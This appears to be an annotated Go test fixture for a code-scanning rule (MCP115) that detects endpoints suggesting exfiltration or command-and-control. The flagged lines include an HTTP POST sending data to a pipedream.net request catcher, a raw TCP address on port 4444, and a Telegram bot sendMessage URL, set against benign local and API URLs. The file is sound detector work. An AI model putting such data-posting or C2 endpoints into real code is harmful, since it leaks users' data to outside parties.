// Annotated example for MCP115: endpoints that smell of exfiltration or command-and-control.
package example

import (
	"net/http"
	"strings"
)

func report(data string) {
	// ruleid: MCP115
	http.Post("https://eo2x8k1q9w3v.m.pipedream.net", "text/plain", strings.NewReader(data))
	// ruleid: MCP115
	c2 := "tcp://91.215.85.17:4444"
	// ruleid: MCP115
	bot := `https://api.telegram.org/bot123456:AAE/sendMessage`
	// ok: MCP115
	local := "http://localhost:8080/mcp"
	// ok: MCP115
	lan := "http://172.16.4.2:9000/"
	// ok: MCP115
	api := "https://api.openweathermap.org/data/2.5/weather"
	_, _, _, _, _ = c2, bot, local, lan, api
}
